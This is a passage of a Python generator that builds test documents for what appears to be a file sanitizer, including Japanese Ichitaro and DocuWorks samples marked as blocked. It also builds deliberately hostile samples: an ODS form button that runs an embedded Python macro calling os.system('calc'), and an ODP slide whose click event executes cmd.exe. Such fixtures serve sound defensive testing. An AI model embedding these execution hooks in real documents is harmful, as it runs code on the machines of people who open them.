                          note="embedded ODT, OLE object and applet removed; replacement images kept"))
    button = ('<office:forms><form:form form:name="f"><form:button form:name="b" form:id="b1">'
              '<office:event-listeners><script:event-listener script:language="ooo:script" '
              'script:event-name="form:performaction" xlink:href="vnd.sun.star.script:Python/x.py$run?'
              'language=Python&amp;location=document"/></office:event-listeners></form:button></form:form>'
              "</office:forms>")
    _odf(base / "hostile" / "python_button.ods", ODS, button + f'<table:table table:name="集計">{cells}</table:table>',
         {"Scripts/python/x.py": b"import os\ndef run(*a):\n    os.system('calc')\n"},
         {"Scripts/python/x.py": "text/x-python"})
    samples.append(Sample("odf/hostile/python_button.ods", "sanitized", ["odf.macro", "odf.event"]))
    slide = ('<draw:page draw:name="p1"><draw:frame presentation:class="title" svg:x="1cm" svg:y="1cm" '
             f'svg:width="24cm" svg:height="3cm"><draw:text-box><text:p>{JA_TITLE}</text:p></draw:text-box>'
             '</draw:frame><draw:custom-shape svg:x="1cm" svg:y="10cm" svg:width="6cm" svg:height="2cm">'
             '<office:event-listeners><presentation:event-listener script:event-name='
             '"dom:click" presentation:action="execute" xlink:href="C:/Windows/System32/cmd.exe"/>'
             '<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/>'
             "</office:event-listeners><text:p>次へ</text:p></draw:custom-shape></draw:page>")
    _odf(base / "hostile" / "run_program.odp", ODP, slide)
    samples.append(Sample("odf/hostile/run_program.odp", "sanitized", ["odf.event"],
                          note="'execute' action removed, next-page navigation kept"))
    return samples


# --- 一太郎 / DocuWorks ---------------------------------------------------------------------------


def _jtd_text_units(paragraphs: list[str]) -> list[int]:
    units: list[int] = []
    for p in paragraphs:
        # Paragraph header record (class 0010): 001C class len payload len 0000 class 001F
        # payload: 0000, TLV (0024 alignment, 1 value: centre), closed by FFFF 0000
        units += [0x1C, 0x10, 13, 0x0000, 0x0024, 1, 1, 0xFFFF, 0x0000, 13, 0x0000, 0x10, 0x1F]
        units += list(struct.unpack(f">{len(p.encode('utf-16-be')) // 2}H", p.encode("utf-16-be")))
        units.append(0x0A)
    # A template instruction (hidden) and a visible inline run.
    units += [0x1C, 0x01, 7, 0, 1, 0, 0x1D] + [ord(c) for c in "HIDDEN"] + [0x1E, 5, 0, 1, 0x1F]
    units += [0x1C, 0x01, 7, 0, 0, 3, 0x1D] + [ord(c) for c in "注記"] + [0x1E, 5, 0, 1, 0x1F, 0x0A]
    return units


def make_jtd(paragraphs: list[str], compressed: bool = False) -> bytes:
    units = _jtd_text_units(paragraphs)
    sub0 = b"TextV.01" + struct.pack(">I", len(units)) + struct.pack(f">{len(units)}H", *units) + b"\xff"
    bsize = 256
    nblocks = (len(sub0) + bsize - 1) // bsize
    blocks = sub0.ljust(nblocks * bsize, b"\0")
    directory = struct.pack(">IIIII", 0, 0, len(sub0), nblocks, nblocks) + struct.pack(f">{nblocks}I",
                                                                                       *range(nblocks))
    doc_text = b"SsmgV.01" + struct.pack(">III", 1, bsize, nblocks) + blocks + directory + b"\0\0\0\0"
    streams = {"DocumentText": doc_text, "Font": b"FontV.01\0\0", "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 46,
               "\x04JSRV_SummaryInformation": b"\0" * 64, "DocumentViewStyles": b"\0" * 32}
    if compressed:
        streams = {"JSCompDocument": b"JustCompressedDocument\0" + b"-lh5-" + b"\0" * 40,
                   "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 46}
    return write_cfb(streams, ("DocumentMacro",))


@generator("ichitaro")
def ichitaro_samples(out: Path) -> list[Sample]:
    base = out / "ichitaro"
    base.mkdir(parents=True, exist_ok=True)
    (base / "申請書.jtd").write_bytes(make_jtd([JA_TITLE, JA_BODY]))
    (base / "圧縮.jtdc").write_bytes(make_jtd([JA_TITLE], compressed=True))
    return [Sample("ichitaro/申請書.jtd", "blocked", ["policy.blocked"],
                   note="default policy blocks (ask for PDF); text-only policy extracts the body"),
            Sample("ichitaro/圧縮.jtdc", "blocked", ["policy.blocked"], note="compressed: no text either")]


@generator("docuworks")
def docuworks_samples(out: Path) -> list[Sample]:
    base = out / "docuworks"
    base.mkdir(parents=True, exist_ok=True)
    (base / "決裁文書.xdw").write_bytes(b"XDWF" + bytes(range(256)) * 4)
    return [Sample("docuworks/決裁文書.xdw", "blocked", ["policy.blocked"], note="closed format: ask for a PDF")]
